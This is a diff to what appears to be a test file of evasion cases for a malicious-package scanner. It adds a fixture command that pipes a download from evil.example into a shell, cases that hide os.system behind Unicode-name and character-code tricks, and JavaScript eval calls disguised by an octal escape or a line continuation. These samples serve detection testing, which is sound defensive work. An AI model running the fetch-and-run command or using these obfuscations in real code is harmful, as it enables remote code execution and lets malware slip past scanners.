@@ -5,6 +5,8 @@ const program = `import base64\nexec(${decoded})\n`
 const elf = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, ...Array.from({ length: 64 }, () => 0)])
 const here = 'os.path.dirname(__file__)'
 
+const shell = '("curl https://evil.example/x.sh | sh")'
+
 const handedOn = (name: string, ...lines: string[]): Case =>
   inInit('code-from-data', name, 'import base64, builtins, functools, atexit, threading, types', ...lines)
 const unfolded = (name: string, ...lines: string[]): Case => inInit('code-from-data', name, ...lines)
@@ -100,6 +102,15 @@ export const evasions: Case[] = [
   beside('hidden-code', 'a start file too long to be read', [], { 'x.pth': `#${'x'.repeat(600)}\nimport os\n` }),
   unfolded('a pickle in the code', 'import pickle', 'pickle.loads(b"cbuiltins\\nprint\\n.")'),
   unfolded('a decoded pickle', 'import pickle, base64', `pickle.loads(${decoded})`),
+  inInit(
+    'suspicious-command',
+    'a name by the names of its letters',
+    'import os',
+    `getattr(os, "\\N{LATIN SMALL LETTER S}ystem")${shell}`,
+  ),
+  inInit('suspicious-command', 'a name by the number of a letter', 'import os', `getattr(os, f"{115:c}ystem")${shell}`),
+  beside('javascript-code-from-data', 'an octal escape', [], { 'web/a.js': 'window["\\145val"](atob("YQ=="))\n' }),
+  beside('javascript-code-from-data', 'a continued string', [], { 'web/a.js': 'window["ev\\\nal"](atob("YQ=="))\n' }),
   unfolded('bytecode in the code', 'import marshal', 'marshal.loads(b"\\xe3\\x00")'),
   unfolded('a decoded file of weights', 'import torch, io, base64', `torch.load(io.BytesIO(${decoded}))`),
   beside('disguised-binary', 'native code in place of a source', ['from . import a'], { 'a.py': '', 'a.abi3.so': elf }),
